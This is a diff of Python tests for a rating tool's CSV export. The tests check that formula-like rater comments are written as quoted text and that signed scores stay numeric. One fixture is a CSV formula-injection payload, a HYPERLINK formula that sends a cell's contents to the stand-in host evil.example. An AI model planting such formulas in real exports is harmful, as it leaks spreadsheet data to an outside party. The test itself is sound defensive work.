@@ -194,6 +194,26 @@ def test_hostile_text_survives_export(db: Database) -> None:
     _, records = export_rows(db, study.id)
     assert records[0]["response"] == evil
     back = list(csv.DictReader(io.StringIO(to_csv(records))))
-    assert back[0]["response"] == evil
+    assert back[0]["response"] == "'" + evil  # kept whole, behind the quote that keeps it text
     with db.read() as s:
         assert s.scalar(select(Prompt.conversation))[0]["content"] == evil
+
+
+def test_csv_export_neutralises_formulas_in_text_and_keeps_numbers(db: Database, tmp_path: Path) -> None:
+    """A rater's comment that is a formula is written as text; negative numbers stay numbers."""
+    raters = [create_user(db, f"r{i}", PASSWORD, "rater") for i in range(2)]
+    study = make_study(db, raters, kind="pairwise", n_prompts=2, models=("m1", "m2"), raters_per_item=2)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    comments = iter([formula, "-0.5", "@SUM(A1:A9)", "\uff1d1+1"])
+    # Both raters rate both items, one "A much better" (1), the other "B much better" (7): each
+    # item then has a signed score of +3 and one of -3, whichever side the first model was shown on.
+    for value, r in zip((1, 7), raters, strict=True):
+        while (res := A.next_assignment(db, study.id, r.id)) is not None:
+            A.submit_rating(db, res.assignment_id, r.id, value, comment=next(comments))
+    write_export(db, study.id, tmp_path / "r.csv")
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text())))
+    assert len(rows) == 4
+    assert {r["comment"] for r in rows} == {"'" + formula, "'-0.5", "'@SUM(A1:A9)", "'\uff1d1+1"}
+    assert sorted(r["signed_score_first_model"] for r in rows) == ["-3", "-3", "3", "3"]
+    text_cells = [cell for r in rows for col, cell in r.items() if col != "signed_score_first_model"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\uff1d")) for cell in text_cells)
